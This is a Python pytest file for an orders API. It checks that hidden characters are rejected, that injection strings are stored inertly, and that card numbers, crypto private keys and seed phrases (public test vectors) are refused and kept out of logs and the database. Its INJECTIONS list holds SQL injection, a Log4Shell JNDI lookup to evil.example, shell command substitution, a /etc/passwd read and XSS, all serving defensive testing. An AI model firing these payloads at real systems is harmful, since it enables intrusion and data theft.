"""Bad input, cross-cutting: texts that hide, inject, or hold what must never be here (C-14, C-15, C-29, C-30)."""

from __future__ import annotations

import asyncpg
import pytest
import structlog
from structlog.testing import LogCapture

from tests.api.front import ADDRESS, Caller, Front
from tests.api.refusals import pointers, refused

HIDING = {
    "NUL": "a\x00b",
    "newline": "a\nb",
    "carriage return": "a\rb",
    "escape": "a\x1b[31mb",
    "delete": "a\x7fb",
    "C1 control": "a\x9bb",
    "bidi override": "a\u202eb",
    "bidi isolate": "a\u2066b",
    "zero width space": "a\u200bb",
    "zero width joiner": "a\u200db",
    "byte order mark": "a\ufeffb",
    "soft hyphen": "a\u00adb",
    "line separator": "a\u2028b",
    "private use": "a\ue000b",
    "unassigned": "a\U000e0080b",
    "tag character": "a\U000e0041b",
    "not NFC": "e\u0301",
    "noncharacter": "a\uffffb",
}
# Texts that do something where they are not treated as text; to us they are letters.
INJECTIONS = [
    "'; DROP TABLE orders; --",
    "' OR '1'='1",
    "{{7*7}}",
    "${7*7}",
    "${jndi:ldap://evil.example/a}",
    "$(id)",
    "`id`",
    "| cat /etc/passwd",
    "%0d%0aSet-Cookie: a=b",
    "<script>alert(1)</script>",
    "=HYPERLINK(1)",
    "../../etc/passwd",
    "%s%n%x",
    "\\u0000",
    "Zo\u00eb \u2014 \u5bff\u53f8 \U0001f363",
]


def order_with(field: str, value: str) -> dict[str, object]:
    """An order's body with this text in one of its fields."""
    body: dict[str, object] = {"quote_id": "qt_01JD0000000000000000000000", "destination": {"address": ADDRESS}}
    match field:
        case "metadata value":
            body["metadata"] = {"note": value}
        case "metadata key":
            body["metadata"] = {value: "x"}
        case "customer.reference":
            body["customer"] = {"reference": value}
        case "customer.email":
            body["customer"] = {"email": value}
        case "destination.address":
            body["destination"] = {"address": value}
        case _:
            body[field] = value
    return body


FIELDS = [
    "quote_id",
    "external_id",
    "metadata value",
    "metadata key",
    "customer.reference",
    "customer.email",
    "destination.address",
    "unknown",
]


@pytest.mark.parametrize("name", HIDING)
@pytest.mark.parametrize("field", FIELDS)
async def test_c_14_hidden_characters(front: Front, caller: Caller, field: str, name: str) -> None:
    body = order_with(field, HIDING[name])
    response = await refused(front, caller.post("/v1/orders", body), 422, "validation_failed")
    [found] = response.json()["errors"]
    assert found["code"] == "invalid_text"
    assert found["pointer"].startswith("/" + field.partition(" ")[0].partition(".")[0]) or field == "metadata key"


@pytest.mark.parametrize("name", HIDING)
async def test_c_14_hidden_characters_in_the_query(front: Front, caller: Caller, name: str) -> None:
    for parameter in ("external_id", "metadata[note]", "status"):
        sending = caller.http.get("/v1/orders", params={parameter: HIDING[name]}, headers=caller.headers)
        await refused(front, sending, 422, "validation_failed")


@pytest.mark.parametrize("text", INJECTIONS)
async def test_c_15_injections_are_letters(front: Front, caller: Caller, text: str) -> None:
    heard = LogCapture()
    settings = structlog.get_config()
    structlog.configure(processors=[heard], wrapper_class=structlog.BoundLogger)
    try:
        order = await caller.order(
            external_id=text, metadata={"note": text, text[:40]: "x"}, customer={"reference": text}
        )
    finally:
        structlog.configure(**settings)
    assert order["external_id"] == text
    assert order["metadata"] == {"note": text, text[:40]: "x"}
    assert order["customer"] == {"reference": text}
    found = await caller.http.get("/v1/orders", params={"metadata[note]": text}, headers=caller.headers)
    assert [item["id"] for item in found.json()["data"]] == [order["id"]]
    assert text not in str(heard.entries)
    async with front.context.db.connection() as connection:
        assert await connection.fetchval("SELECT count(*) FROM orders") > 0


CARDS = [
    "4242424242424242",
    "4242 4242 4242 4242",
    "4242-4242-4242-4242",
    "378282246310005",
    "3782 822463 10005",
    "5555555555554444",
    "2223003122003222",
    "6011000990139424",
    "30569309025904",
    "3530111333300000",
    "4222222222222",
    "my card is 4242424242424242, thanks",
    "card:4242424242424242",
    "x4242424242424242x",
    "4 2 4 2 4 2 4 2 4 2 4 2 4 2 4 2",
    "id 99 4242 4242 4242 4242 exp 12 30",
    "\uff14\uff12\uff14\uff12424242424242",
]
KEYS = [
    # The private key 1, in Bitcoin's import format: compressed, not compressed, for a test network.
    "KwDiBf89QgGbjEhKnhXJuH7LrciVrZi3qYjgd9M7rFU73sVHnoWn",
    "5HpHagT65TZzG1PH3CSu63k8DbpvD8s5ip4nEB3kEsreAnchuDf",
    "cMahea7zqjxrtgAbB7LSGbcQUr1uX1ojuat9jZodMN87JcbXMTcA",
    # BIP-32, test vector 1.
    "xprv9s21ZrQH143K3QTDL4LXw2F7HEK3wJUD2nW2nRk4stbPy6cq3jPPqjiChkVvvNKmPGJxWUtg6LnF5kejMRNNU3TGtRBeJgk33yuGBxrMPHi",
    "-----BEGIN EC PRIVATE KEY----- MHQCAQEE",
]
PHRASES = [
    " ".join(["abandon"] * 11 + ["about"]),
    " ".join(["abandon"] * 23 + ["art"]),
    "legal winner thank year wave sausage worth useful legal winner thank yellow",
    "My words: Legal, Winner, Thank, Year, Wave, Sausage, Worth, Useful, Legal, Winner, Thank, Yellow.",
    "1. legal 2. winner 3. thank 4. year 5. wave 6. sausage\u00a07. worth 8. useful 9. legal 10. winner 11. thank 12. "
    "wear",
]


@pytest.mark.parametrize("secret", [*CARDS, *KEYS, *PHRASES])
@pytest.mark.parametrize(
    "field", [name for name in FIELDS if name not in {"quote_id", "metadata key", "customer.email"}]
)
async def test_c_29_forbidden_data(front: Front, caller: Caller, field: str, secret: str) -> None:
    heard = LogCapture()
    settings = structlog.get_config()
    structlog.configure(processors=[heard], wrapper_class=structlog.BoundLogger)
    try:
        sending = caller.post("/v1/orders", order_with(field, secret))
        response = await refused(front, sending, 422, "forbidden_data", unsaid=[secret])
    finally:
        structlog.configure(**settings)
    assert len(pointers(response)) == 1
    assert secret not in str(heard.entries)


async def test_c_29_in_a_name(front: Front, caller: Caller) -> None:
    body = order_with("metadata key", "4242424242424242")
    response = await refused(front, caller.post("/v1/orders", body), 422, "forbidden_data", unsaid=["4242"])
    assert pointers(response) == ["/metadata"]


async def test_c_29_escaped(front: Front, caller: Caller) -> None:
    body = b'{"quote_id":"x","metadata":{"a":"\\u0034242424242424242"}}'
    await refused(front, caller.post("/v1/orders", body), 422, "forbidden_data")


async def test_c_29_a_bare_private_key_by_its_name(front: Front, caller: Caller) -> None:
    key = "e8f32e723decf4051aefac8e2c93c9c5b214313817cdb01a1494b917c8436b35"
    body = order_with("quote_id", "x") | {"metadata": {"private_key": key}}
    await refused(front, caller.post("/v1/orders", body), 422, "forbidden_data", unsaid=[key])
    assert (await caller.order(metadata={"document_sha256": key}))["metadata"] == {"document_sha256": key}


@pytest.mark.parametrize(
    "text",
    [
        "4242424242424241",
        "0000000000000000",
        "1700000000008",
        "42424242424242424242424242",
        "12345678-1234-4234-8234-423456789012",
        "or_01JD0000000000000000000000",
        "4a5e1e4baab89f3a32518a88c31bc87f618f76673e2cc77ab2127b7afdeda33b",
        "0000000000000000000424242424242424242a88c31bc87f618f76673e2cc77a",
        "0x4242424242424242424242424242424242424242",
        "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
        "the quick brown fox jumps over the lazy dog and the cat sees it all again",
        "please leave the box at the front door of the house, next to the garden table",
        "+49 30 1234567 and +49 40 7654321",
        "xpub661MyMwAqRbcFtXgS5sYJABqqG9YLmC4Q1Rdap9gSE8NqtwybGhePY2gZ29ESFjqJoCu1Rupje8YtGqsefD265TMg7usUDFdp6W1EGMcet8",
    ],
)
async def test_c_29_what_only_looks_like_it(caller: Caller, text: str) -> None:
    assert (await caller.order(external_id=text))["external_id"] == text


async def test_c_29_nothing_of_it_is_in_the_database(front: Front, caller: Caller) -> None:
    for secret in (CARDS[5], KEYS[0], PHRASES[2]):
        assert (await caller.post("/v1/orders", order_with("metadata value", secret))).status_code == 422
    async with front.context.db.connection() as connection:
        for (table,) in await _tables(connection):
            everything = f'SELECT string_agg(rows::text, chr(10)) FROM "{table}" AS rows'  # noqa: S608 - our own name
            found = await connection.fetchval(everything)
            assert not any(secret in (found or "") for secret in (CARDS[5], KEYS[0], PHRASES[2])), table


async def _tables(connection: asyncpg.Connection[asyncpg.Record]) -> list[asyncpg.Record]:
    records: list[asyncpg.Record] = await connection.fetch(
        "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'"
    )
    return records


@pytest.mark.parametrize(
    "metadata",
    [
        {f"k{number}": "v" for number in range(51)},
        {"k" * 41: "v"},
        {"k": "v" * 501},
        {"": "v"},
        {"k": {"nested": "v"}},
        {"k": ["v"]},
        {"k": 1},
        {"k": True},
        {"k": None},
        ["k"],
        "k",
    ],
    ids=lambda metadata: repr(metadata)[:30],
)
@pytest.mark.parametrize("path", ["/v1/orders", "/v1/webhook_endpoints"])
async def test_c_30_metadata(front: Front, caller: Caller, path: str, metadata: object) -> None:
    body = {
        "/v1/orders": {"quote_id": "qt_01JD0000000000000000000000", "destination": {"address": ADDRESS}},
        "/v1/webhook_endpoints": {"url": "https://shop.example.com/", "event_types": ["*"]},
    }[path]
    response = await refused(front, caller.post(path, body | {"metadata": metadata}), 422, "validation_failed")
    assert all(pointer.startswith("/metadata") for pointer in pointers(response))


async def test_c_30_as_much_metadata_as_there_may_be(caller: Caller) -> None:
    metadata = {f"{number:02}{'k' * 38}": "v" * 500 for number in range(50)}
    assert (await caller.order(metadata=metadata))["metadata"] == metadata
